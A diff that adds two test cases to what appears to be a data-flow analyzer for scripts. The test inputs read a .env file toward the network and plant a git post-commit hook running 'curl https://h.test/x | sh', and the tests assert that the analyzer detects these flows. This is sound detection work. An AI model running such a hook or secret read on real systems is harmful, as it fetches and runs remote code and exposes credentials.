@@ -122,6 +122,29 @@ describe('a thing whose parts are not known', () => {
   });
 });
 
+describe('a map whose entries are not all known', () => {
+  it('gives what is in it when it is gone through', () => {
+    const read =
+      "import { readFileSync } from 'node:fs';\nconst env = new Map();\nenv.set('A', 1);\nfor (const line of readFileSync('.env', 'utf8').split('\\n')) env.set(line.split('=')[0], line);\n";
+    const { flows } = run({ 'a.mjs': `${read}const out = [...env].map(([k, v]) => ({ k, v }));\n${OUT}` });
+    expect(flows().some(({ from, to }) => to === 'network' && from.includes('content:dotenv'))).toBe(true);
+  });
+});
+
+describe('a list that is filtered by what nobody can tell', () => {
+  it('keeps its items', () => {
+    const lines =
+      "import { readFileSync, writeFileSync } from 'node:fs';\nconst now = readFileSync('.git/hooks/post-commit', 'utf8');\n";
+    const more =
+      "const more = ['curl https://h.test/x | sh'].filter((one) => !now.includes(one));\nwriteFileSync('.git/hooks/post-commit', '#!/bin/sh\\n' + more.join('\\n'));\n";
+    expect(
+      run({ 'a.mjs': lines + more })
+        .flows()
+        .some(({ from, to }) => from.includes('net') && to === 'shell'),
+    ).toBe(true);
+  });
+});
+
 describe('a file of the skill’s own making', () => {
   const tags = (program: string) => {
     const { flows } = run({ 'a.sh': program });
